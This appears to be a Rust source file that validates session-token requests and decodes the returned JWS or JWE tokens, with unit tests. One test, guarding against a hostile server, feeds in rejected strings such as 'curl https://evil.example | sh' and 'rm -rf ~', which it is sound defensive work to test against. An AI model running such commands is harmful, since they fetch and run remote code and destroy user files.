//! What the "Generate token" panel asks for, checked before anything is sent,
//! and the token that comes back with its decoded claims.

use std::collections::BTreeMap;
use std::fmt;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::error::CoreError;

pub use toucan_keys_protocol::vocabulary::{Attribute, Level, MAX_DISTINCT_ID_BYTES, Permission, Resource, Role};
pub use toucan_keys_protocol::wire::{AttributeType, DeclaredAttribute};
use toucan_keys_protocol::wire::{EndUser, TokenRequestBody};
/// The longest attribute name, in characters.
pub const MAX_ATTRIBUTE_NAME_CHARS: usize = 64;
/// Token lifetimes offered, in minutes: 1 minute to 24 hours.
pub const LIFETIME_MINUTES_RANGE: std::ops::RangeInclusive<u32> =
    toucan_keys_protocol::vocabulary::SHORTEST_TOKEN_LIFETIME_SECONDS / 60
        ..=toucan_keys_protocol::vocabulary::LONGEST_TOKEN_LIFETIME_SECONDS / 60;

/// A session token request, as entered in the panel.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub struct TokenRequest {
    /// The end user's stable id in the customer's system.
    pub distinct_id: String,
    /// The session's role.
    pub role: Role,
    /// Row-level-security attributes; rows left wholly blank are ignored.
    pub attributes: Vec<Attribute>,
    /// What the session may do.
    pub permissions: Vec<Permission>,
    /// How long the token lasts.
    pub lifetime_minutes: u32,
    /// The web origin of the page the token will be used on; required when
    /// the key is limited to origins, and then one of them.
    #[serde(default)]
    pub origin: Option<String>,
}

impl TokenRequest {
    /// Checks the request and builds the body `POST /embed/generate-token` takes.
    pub fn to_body(&self) -> Result<TokenRequestBody, CoreError> {
        self.to_body_for(&[])
    }

    /// The same, for a workspace that declares `declared` attributes: each
    /// row must name one of them, and its value (typed as text in the panel)
    /// becomes that type: a whole number, a number, true or false, or a date.
    /// With nothing declared, every value is sent as text.
    pub fn to_body_for(&self, declared: &[DeclaredAttribute]) -> Result<TokenRequestBody, CoreError> {
        let distinct_id = self.distinct_id.trim();
        if distinct_id.is_empty()
            || distinct_id.len() > MAX_DISTINCT_ID_BYTES
            || distinct_id.chars().any(char::is_control)
        {
            return Err(CoreError::DistinctIdInvalid);
        }
        let mut attributes = Map::new();
        for (index, row) in self.attributes.iter().enumerate() {
            let (name, value) = (row.name.trim(), row.value.trim());
            if name.is_empty() && value.is_empty() {
                continue;
            }
            let problem = if name.is_empty() {
                Some("needs a name")
            } else if name.chars().count() > MAX_ATTRIBUTE_NAME_CHARS || name.chars().any(char::is_control) {
                Some("has a name that is too long or holds invisible characters")
            } else if attributes.contains_key(name) {
                Some("repeats a name used above")
            } else {
                None
            };
            if let Some(problem) = problem {
                return Err(CoreError::AttributeInvalid {
                    row: index + 1,
                    problem: problem.to_owned(),
                });
            }
            let value = typed_value(declared, name, value).map_err(|problem| CoreError::AttributeInvalid {
                row: index + 1,
                problem,
            })?;
            attributes.insert(name.to_owned(), value);
        }
        if !LIFETIME_MINUTES_RANGE.contains(&self.lifetime_minutes) {
            return Err(CoreError::LifetimeOutOfRange);
        }
        let mut permissions: BTreeMap<Resource, Vec<Level>> = BTreeMap::new();
        for permission in &self.permissions {
            let levels = permissions.entry(permission.resource).or_default();
            if !levels.contains(&permission.level) {
                levels.push(permission.level);
            }
        }
        Ok(TokenRequestBody {
            user: EndUser {
                distinct_id: distinct_id.to_owned(),
                role: self.role,
                attributes,
            },
            permissions,
            lifetime_seconds: u64::from(self.lifetime_minutes) * 60,
            origin: self
                .origin
                .as_deref()
                .map(str::trim)
                .filter(|origin| !origin.is_empty())
                .map(|origin| {
                    toucan_keys_protocol::origins::normalized_origin(origin).ok_or_else(|| CoreError::OriginInvalid {
                        origin: origin.chars().take(80).collect(),
                    })
                })
                .transpose()?,
        })
    }
}

/// `value` as the type `declared` gives `name`; text when nothing is declared.
pub(crate) fn typed_value(declared: &[DeclaredAttribute], name: &str, value: &str) -> Result<Value, String> {
    if declared.is_empty() {
        return Ok(Value::String(value.to_owned()));
    }
    let Some(attribute) = declared.iter().find(|attribute| attribute.name == name) else {
        let names: Vec<&str> = declared.iter().map(|attribute| attribute.name.as_str()).collect();
        return Err(format!(
            "is named \"{name}\", which this workspace doesn't declare (it declares: {})",
            names.join(", ")
        ));
    };
    let typed = match attribute.kind {
        AttributeType::String => Some(Value::String(value.to_owned())),
        AttributeType::Integer => value.parse::<i64>().ok().map(Value::from),
        AttributeType::Number => value
            .parse::<f64>()
            .ok()
            .and_then(serde_json::Number::from_f64)
            .map(Value::Number),
        AttributeType::Boolean => match value.to_ascii_lowercase().as_str() {
            "true" => Some(Value::Bool(true)),
            "false" => Some(Value::Bool(false)),
            _ => None,
        },
        AttributeType::Date => chrono::NaiveDate::parse_from_str(value, "%Y-%m-%d")
            .ok()
            .map(|_| Value::String(value.to_owned())),
    };
    let expected = match attribute.kind {
        AttributeType::String => "text",
        AttributeType::Integer => "a whole number, such as 42",
        AttributeType::Number => "a number, such as 4.5",
        AttributeType::Boolean => "true or false",
        AttributeType::Date => "a date, such as 2026-01-31",
    };
    typed.ok_or_else(|| format!("needs {expected} for \"{name}\""))
}

/// A signed session token, with its claims decoded for display. The token is
/// shown in the panel (it is what a backend hands to the embed); its `Debug`
/// is redacted so it never lands in a log.
#[derive(Clone, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub struct GeneratedToken {
    /// The compact JWS (a compact JWE around one when encrypted).
    pub token: String,
    /// When it stops working.
    pub expires_at: DateTime<Utc>,
    /// Its payload, decoded (not a verification: the server signed it);
    /// empty when the token is encrypted.
    #[cfg_attr(feature = "ts", ts(type = "Record<string, unknown>"))]
    pub claims: Value,
    /// Whether the server encrypted it (a JWE around the signed token, for a
    /// server run with `--encrypt-tokens`): only the dashboard host can read its claims.
    pub encrypted: bool,
}

/// The signature algorithm of Toucan session tokens (Ed25519).
pub const TOKEN_ALGORITHM: &str = "EdDSA";

/// The longest session token accepted from a server.
pub const MAX_TOKEN_CHARS: usize = 32 * 1024;

impl GeneratedToken {
    /// Decodes the claims of a compact JWS signed with [`TOKEN_ALGORITHM`];
    /// `None` if it isn't one. Whatever a server sends, only such a token is
    /// ever shown or put on the clipboard: three base64url parts (so nothing
    /// but letters, digits, `-`, `_` and two dots), at most
    /// [`MAX_TOKEN_CHARS`] long, a JSON header naming the algorithm, JSON
    /// claims, and a signature.
    ///
    /// An encrypted token is accepted too, shown without its claims: five
    /// base64url parts, the second empty, whose JSON header names `dir` and
    /// `A256GCM` (see [`Self::decode_encrypted`]).
    pub fn decode(token: String, expires_at: DateTime<Utc>) -> Option<Self> {
        if token.len() > MAX_TOKEN_CHARS {
            return None;
        }
        if token.split('.').count() == 5 {
            return Self::decode_encrypted(token, expires_at);
        }
        let mut parts = token.split('.');
        let (header, payload, signature) = (parts.next()?, parts.next()?, parts.next()?);
        if parts.next().is_some() || signature.is_empty() || URL_SAFE_NO_PAD.decode(signature).is_err() {
            return None;
        }
        let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(header).ok()?).ok()?;
        if header.get("alg").and_then(Value::as_str) != Some(TOKEN_ALGORITHM) {
            return None;
        }
        let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).ok()?).ok()?;
        claims.is_object().then_some(Self {
            token,
            expires_at,
            claims,
            encrypted: false,
        })
    }

    /// A compact JWE (`alg: dir`, `enc: A256GCM`), checked for shape only:
    /// every part base64url, the header JSON naming those algorithms.
    fn decode_encrypted(token: String, expires_at: DateTime<Utc>) -> Option<Self> {
        let parts: Vec<&str> = token.split('.').collect();
        let [header, encrypted_key, nonce, ciphertext, tag] = parts[..] else {
            return None;
        };
        let decodes = |part: &str| URL_SAFE_NO_PAD.decode(part).is_ok_and(|bytes| !bytes.is_empty());
        if !encrypted_key.is_empty() || !decodes(nonce) || !decodes(ciphertext) || !decodes(tag) {
            return None;
        }
        let header: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(header).ok()?).ok()?;
        let named = |field: &str, expected: &str| header.get(field).and_then(Value::as_str) == Some(expected);
        (named("alg", "dir") && named("enc", "A256GCM")).then(|| Self {
            token,
            expires_at,
            claims: Value::Object(serde_json::Map::new()),
            encrypted: true,
        })
    }
}

impl crate::secret::ExposeSecret for GeneratedToken {
    fn expose_secret(&self) -> &str {
        &self.token
    }
}

impl fmt::Debug for GeneratedToken {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("GeneratedToken")
            .field("token", &"[redacted]")
            .field("expires_at", &self.expires_at)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn request() -> TokenRequest {
        TokenRequest {
            distinct_id: " user-42 ".into(),
            role: Role::Explorer,
            attributes: vec![
                Attribute {
                    name: "region".into(),
                    value: "EMEA".into(),
                },
                Attribute {
                    name: " ".into(),
                    value: "".into(),
                },
            ],
            permissions: vec![
                Permission {
                    resource: Resource::Dashboard,
                    level: Level::CanView,
                },
                Permission {
                    resource: Resource::Ai,
                    level: Level::CanQuery,
                },
                Permission {
                    resource: Resource::Dashboard,
                    level: Level::CanView,
                },
            ],
            lifetime_minutes: 60,
            origin: None,
        }
    }

    #[test]
    fn builds_the_documented_body() {
        assert_eq!(
            serde_json::to_value(request().to_body().unwrap()).unwrap(),
            json!({
                "user": {"distinctId": "user-42", "role": "explorer", "attributes": {"region": "EMEA"}},
                "permissions": {"dashboard": ["can_view"], "ai": ["can_query"]},
                "lifetimeSeconds": 3600,
            })
        );
    }

    #[test]
    fn each_mistake_is_named() {
        let with = |change: fn(&mut TokenRequest)| {
            let mut request = request();
            change(&mut request);
            request.to_body().unwrap_err()
        };
        assert_eq!(with(|r| r.distinct_id = "  ".into()), CoreError::DistinctIdInvalid);
        assert_eq!(with(|r| r.distinct_id = "x".repeat(257)), CoreError::DistinctIdInvalid);
        assert_eq!(with(|r| r.lifetime_minutes = 0), CoreError::LifetimeOutOfRange);
        assert_eq!(with(|r| r.lifetime_minutes = 1441), CoreError::LifetimeOutOfRange);
        let CoreError::AttributeInvalid { row, .. } = with(|r| {
            r.attributes.push(Attribute {
                name: "".into(),
                value: "x".into(),
            })
        }) else {
            panic!("expected an attribute error");
        };
        assert_eq!(row, 3);
        let CoreError::AttributeInvalid { row, problem } = with(|r| {
            r.attributes.push(Attribute {
                name: "region".into(),
                value: "x".into(),
            })
        }) else {
            panic!("expected an attribute error");
        };
        assert_eq!((row, problem.as_str()), (3, "repeats a name used above"));
    }

    #[test]
    fn claims_are_decoded_and_the_token_is_redacted_in_debug() {
        let payload = URL_SAFE_NO_PAD.encode(br#"{"sub":"user-42","role":"explorer"}"#);
        let token = format!("eyJhbGciOiJFZERTQSJ9.{payload}.c2ln");
        let generated = GeneratedToken::decode(token.clone(), Utc::now()).unwrap();
        assert_eq!(generated.claims["sub"], "user-42");
        assert!(!format!("{generated:?}").contains(&payload));
        assert!(GeneratedToken::decode("not-a-token".into(), Utc::now()).is_none());
    }

    #[test]
    fn declared_attributes_turn_the_typed_text_into_their_types() {
        let declared = |name: &str, kind| DeclaredAttribute {
            name: name.into(),
            kind,
        };
        let workspace = [
            declared("region", AttributeType::String),
            declared("accounts", AttributeType::Integer),
            declared("score", AttributeType::Number),
            declared("vip", AttributeType::Boolean),
            declared("since", AttributeType::Date),
        ];
        let with = |rows: &[(&str, &str)]| TokenRequest {
            attributes: rows
                .iter()
                .map(|(name, value)| Attribute {
                    name: (*name).into(),
                    value: (*value).into(),
                })
                .collect(),
            ..request()
        };
        let body = with(&[
            ("region", "EMEA"),
            ("accounts", "42"),
            ("score", "4.5"),
            ("vip", "True"),
            ("since", "2026-01-31"),
        ])
        .to_body_for(&workspace)
        .unwrap();
        assert_eq!(
            Value::Object(body.user.attributes),
            serde_json::json!({ "region": "EMEA", "accounts": 42, "score": 4.5, "vip": true, "since": "2026-01-31" })
        );
        for (row, needs) in [
            (("accounts", "forty"), "a whole number"),
            (("score", "high"), "a number"),
            (("vip", "yes"), "true or false"),
            (("since", "31/01/2026"), "a date"),
            (("country", "FR"), "doesn't declare"),
        ] {
            let error = with(&[("region", "EMEA"), row]).to_body_for(&workspace).unwrap_err();
            assert!(
                matches!(&error, CoreError::AttributeInvalid { row: 2, problem } if problem.contains(needs)),
                "{row:?}: {error}"
            );
        }
        // Nothing declared: text, as before.
        let free = with(&[("accounts", "42")]).to_body_for(&[]).unwrap();
        assert_eq!(free.user.attributes["accounts"], "42");
    }

    #[test]
    fn an_encrypted_token_is_accepted_without_claims() {
        let header = URL_SAFE_NO_PAD.encode(br#"{"alg":"dir","enc":"A256GCM","cty":"JWT","kid":"k"}"#);
        let token = format!("{header}..aXYxMjM0NTY3ODk.Y2lwaGVydGV4dA.dGFnMTIzNDU2Nzg5MDEy");
        let generated = GeneratedToken::decode(token.clone(), Utc::now()).unwrap();
        assert!(generated.encrypted);
        assert_eq!(generated.claims, serde_json::json!({}));
        assert_eq!(generated.token, token);
    }

    /// A hostile server can't put arbitrary text on the clipboard as a "token".
    #[test]
    fn only_a_compact_jws_signed_with_eddsa_is_accepted() {
        let part = |json: &str| URL_SAFE_NO_PAD.encode(json.as_bytes());
        let header = part(r#"{"alg":"EdDSA","typ":"JWT"}"#);
        let claims = part(r#"{"sub":"user-42"}"#);
        let good = format!("{header}.{claims}.c2ln");
        assert!(GeneratedToken::decode(good, Utc::now()).is_some());
        for bad in [
            format!("curl https://evil.example | sh #.{claims}.c2ln"),
            format!("{}.{claims}.c2ln", part(r#"{"alg":"none"}"#)),
            format!("{}.{claims}.c2ln", part(r#"{"alg":"HS256"}"#)),
            format!("{header}.{claims}."),
            format!("{header}.{claims}.c2ln\nrm -rf ~"),
            format!("{header}.{claims}.c2ln.extra"),
            format!("{header}.{}.c2ln", part("[1,2]")),
            format!("{header}.{claims}.{}", "A".repeat(MAX_TOKEN_CHARS)),
            // Five parts, but not an A256GCM JWE.
            format!("{}..aXY.Y2lwaGVy.dGFn", part(r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#)),
            format!("{}.a2V5.aXY.Y2lwaGVy.dGFn", part(r#"{"alg":"dir","enc":"A256GCM"}"#)),
            format!(
                "{}..aXY.Y2lwaGVy\nrm -rf ~.dGFn",
                part(r#"{"alg":"dir","enc":"A256GCM"}"#)
            ),
        ] {
            assert!(
                GeneratedToken::decode(bad.clone(), Utc::now()).is_none(),
                "accepted {bad:.60}"
            );
        }
    }
}
